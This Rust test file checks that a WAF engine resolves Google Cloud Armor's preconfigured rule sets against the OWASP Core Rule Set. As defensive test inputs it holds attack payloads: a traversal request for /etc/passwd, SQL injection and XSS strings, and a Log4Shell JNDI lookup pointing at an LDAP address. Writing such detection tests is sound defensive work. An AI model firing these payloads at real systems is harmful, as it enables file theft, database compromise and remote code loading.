//! A policy of Google's, unmodified, with Debian's Core Rule Set.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use portcullis_rulesets::{RuleSet, Source};

use super::{DEFAULT_ALLOW, NOON, Request, definition, rule, shown, state};
use crate::verdict::EventKind;
use crate::waf::WafRules;
use crate::{Decision, GeoState, Materials, Policy, Served};

/// Where Debian's package `modsecurity-crs` puts it.
const DEBIAN: &str = "/usr/share/modsecurity-crs";

fn loaded(level: u8) -> Option<BTreeMap<String, Arc<dyn WafRules>>> {
    if !Path::new(DEBIAN).is_dir() {
        assert!(std::env::var_os("REQUIRE_ALL").is_none(), "{DEBIAN} is required");
        println!("skipped: {DEBIAN} is not installed");
        return None;
    }
    let set = RuleSet::load("crs", &Source::Crs(DEBIAN.into()), level).expect("it compiles").set;
    let mut rulesets: BTreeMap<String, Arc<dyn WafRules>> = BTreeMap::new();
    rulesets.insert("crs".into(), set);
    Some(rulesets)
}

fn policy(
    rules: &str,
    rulesets: &BTreeMap<String, Arc<dyn WafRules>>,
) -> (Arc<Policy>, Vec<&'static str>) {
    let materials = Materials {
        rulesets,
        lists: &BTreeMap::new(),
        geo: GeoState::Absent,
        asn: GeoState::Absent,
    };
    let text = format!(
        "name: p\nadvancedOptionsConfig: {{ jsonParsing: STANDARD }}\nrules:\n{rules}{DEFAULT_ALLOW}"
    );
    let (policy, warnings) = Policy::compile(&definition(&text), &materials)
        .unwrap_or_else(|problems| panic!("{}", shown(&problems)));
    (Arc::new(policy), warnings.iter().map(|warning| warning.code).collect())
}

const CATEGORIES: [&str; 12] = [
    "sqli",
    "xss",
    "lfi",
    "rfi",
    "rce",
    "methodenforcement",
    "scannerdetection",
    "protocolattack",
    "php",
    "sessionfixation",
    "java",
    "nodejs",
];

/// Compiles a policy that asks all twelve sets of a version, and returns what serves them.
fn served(version: &str, rulesets: &BTreeMap<String, Arc<dyn WafRules>>) -> Vec<Served> {
    let named = |category| match (category, version) {
        ("nodejs", "v422") => "generic",
        (category, _) => category,
    };
    let ask = |(priority, category)| {
        let set = format!("{}-{version}-stable", named(category));
        let question = format!("evaluatePreconfiguredWaf('{set}', {{'sensitivity': 4}})");
        rule(priority, "deny(403)", &question)
    };
    let rules: String = (1..).zip(CATEGORIES).map(ask).collect();
    let (policy, warnings) = policy(&rules, rulesets);
    assert_eq!(warnings, <[&str; 0]>::default());
    assert_eq!(policy.wafs.len(), 1, "one run for all of them");
    let served: Vec<Served> = policy.served().into_iter().cloned().collect();
    assert_eq!(served.len(), 12);
    served
}

/// Returns how many signatures of each level there are in all.
fn levels(served: &[Served]) -> [usize; 4] {
    [0, 1, 2, 3].map(|level| served.iter().map(|one| one.levels[level]).sum())
}

/// What the set has beyond Google's of its version.
fn beyond(served: &[Served]) -> Vec<u32> {
    served.iter().flat_map(|one| one.beyond.iter().copied()).collect()
}

/// Debian has 3.3.4 where Google has 3.3.2: four signatures more, none less.
#[test]
fn every_set_of_cloud_armor_for_crs_3_resolves() {
    let Some(rulesets) = loaded(4) else { return };
    let served = served("v33", &rulesets);
    assert!(served.iter().all(|one| one.missing.is_empty()), "{served:?}");
    assert_eq!(levels(&served), [91, 41, 17, 2]);
    assert_eq!(beyond(&served), [921_200, 921_230, 921_421, 921_422]);
}

/// Reads a checkout that an environment variable names.
fn checkout(variable: &str) -> BTreeMap<String, Arc<dyn WafRules>> {
    let folder = std::env::var_os(variable).expect("the variable names a checkout");
    let set = RuleSet::load("crs", &Source::Crs(folder.into()), 4).expect("it compiles").set;
    BTreeMap::from([("crs".to_owned(), set as Arc<dyn WafRules>)])
}

#[test]
#[ignore = "CRS 4 stands in no package: name a checkout of v4.22.0 in CRS4_DIR and run with --ignored"]
fn the_sets_of_crs_4_22_hold_exactly_what_googles_hold() {
    let served = served("v422", &checkout("CRS4_DIR"));
    assert!(served.iter().all(|one| one.missing.is_empty()), "{served:?}");
    assert_eq!(levels(&served), [110, 75, 24, 4]);
    assert!(beyond(&served).is_empty(), "{served:?}");
}

#[test]
#[ignore = "CRS 3.3.2 stands in no package: name a checkout in CRS33_DIR and run with --ignored"]
fn the_sets_of_crs_3_3_2_hold_what_googles_hold_and_one_signature_that_is_told() {
    let served = served("v33", &checkout("CRS33_DIR"));
    assert!(served.iter().all(|one| one.missing.is_empty()), "{served:?}");
    // Google's 147 are those that say their level by a tag; 921200 of level 1 says it by its place in the file only.
    assert_eq!(levels(&served), [90, 40, 16, 2]);
    assert_eq!(beyond(&served), [921_200]);
}

#[test]
fn a_set_of_another_generation_says_which_of_googles_ids_it_lacks() {
    let Some(rulesets) = loaded(4) else { return };
    let rules = rule(1, "deny(403)", "evaluatePreconfiguredWaf('sqli-v422-stable')");
    let (policy, _) = policy(&rules, &rulesets);
    let [one] = policy.served()[..] else { panic!("one set") };
    assert_eq!((one.set.as_str(), one.ruleset.as_str()), ("sqli-v422-stable", "crs"));
    assert!(one.missing.contains(&942_550) && !one.missing.contains(&942_100), "{one:?}");
}

/// A parameter that is excluded is not found again in the URI, and MATCHED_VARS of a chain not in its links.
#[test]
fn an_excluded_parameter_is_left_out_of_uri_and_chains() {
    let Some(rulesets) = loaded(1) else { return };
    let asks = |set: &str, exclusions: &str| {
        let rules = format!(
            "- {{ priority: 1, action: deny(403), match: {{ expr: {{ expression: \"evaluatePreconfiguredWaf('{set}', \
             {{'sensitivity': 1}})\" }} }}, preconfiguredWafConfig: {{ exclusions: [{exclusions}] }} }}\n"
        );
        policy(&rules, &rulesets).0
    };
    let param = |set: &str, name: &str| {
        asks(
            set,
            &format!(
                "{{ targetRuleSet: {set}, requestQueryParamsToExclude: [{{ op: EQUALS, val: {name} }}] }}"
            ),
        )
    };
    let refused = |policy: &Arc<Policy>, request: &Request| {
        !request.through(policy, &state(), NOON).0.decision.passes()
    };
    let traversal = Request::get("/?file=..%2f..%2f..%2fetc%2fpasswd");
    let both = Request::get("/?file=..%2f..%2f..%2fetc%2fpasswd&other=..%2f..%2f..%2fetc%2fpasswd");
    let lfi = "lfi-v33-stable";
    assert!(refused(&param(lfi, "nothing"), &traversal));
    assert!(!refused(&param(lfi, "file"), &traversal));
    assert!(refused(&param(lfi, "file"), &both), "the other one still stands in the URI");
    // 931130 compares what its first link captured; 932190 and others ask MATCHED_VARS.
    let json = |body: &str| {
        Request::post("/", body.as_bytes()).header("Content-Type", b"application/json")
    };
    let sqli = "sqli-v33-stable";
    let attack = json("{\"note\":\"1' or '1'='1\",\"b\":\"x\"}");
    assert!(refused(&param(sqli, "b"), &attack));
    assert!(!refused(&param(sqli, "note"), &attack), "by the name inside of the document");
}

#[test]
fn its_rules_refuse_and_their_signatures_are_named() {
    let Some(rulesets) = loaded(1) else { return };
    let rules =
        rule(1, "deny(403)", "evaluatePreconfiguredWaf('sqli-v33-stable', {'sensitivity': 1})")
            + &rule(
                2,
                "deny(403)",
                "evaluatePreconfiguredWaf('xss-v33-stable', {'sensitivity': 1})",
            );
    let (policy, _) = policy(&rules, &rulesets);
    let attack = Request::get("/?q=1%27%20OR%20%271%27=%271");
    let found = attack.through(&policy, &state(), NOON).0;
    assert_eq!(
        (found.decision, found.security_event),
        (Decision::Deny { status: 403 }, Some(EventKind::SqlInjection))
    );
    let ids = found.enforced.preconfigured_expr_ids;
    assert!(ids.contains(&"owasp-crs-v030301-id942100-sqli".to_owned()), "{ids:?}");
    assert_eq!(found.enforced.matched_field.unwrap().name, b"q");
    let script = Request::post("/", b"{\"a\":\"<script>alert(1)</script>\"}")
        .header("Content-Type", b"application/json");
    assert_eq!(script.through(&policy, &state(), NOON).0.enforced.priority, 2);
    let clean =
        Request::post("/", b"{\"a\":\"O'Brien\"}").header("Content-Type", b"application/json");
    assert_eq!(clean.through(&policy, &state(), NOON).0.decision, Decision::Allow);
}

#[test]
fn sets_that_the_loaded_generation_lacks_are_served_by_our_own_rules() {
    let Some(mut rulesets) = loaded(4) else { return };
    let core = RuleSet::load("core", &Source::Builtin("core".into()), 4).expect("it compiles").set;
    rulesets.insert("core".into(), core);
    for set in ["cve-canary", "json-sqli-canary"] {
        let question = format!("evaluatePreconfiguredWaf('{set}', {{'sensitivity': 2}})");
        let (policy, warnings) = policy(&rule(1, "deny(403)", &question), &rulesets);
        assert_eq!(warnings, <[&str; 0]>::default());
        assert_eq!(policy.served()[0].ruleset, "core", "{set}");
    }
    let question = "evaluatePreconfiguredWaf('cve-canary', {'sensitivity': 1})";
    let (policy, _) = policy(&rule(1, "deny(403)", question), &rulesets);
    let refused = |request: Request| !request.through(&policy, &state(), NOON).0.decision.passes();
    assert!(refused(Request::get("/").header("x-api", b"${${lower:j}ndi:ldap://192.0.2.1/a}")));
    assert!(!refused(Request::get("/").header("x-api", b"${name}")));
}
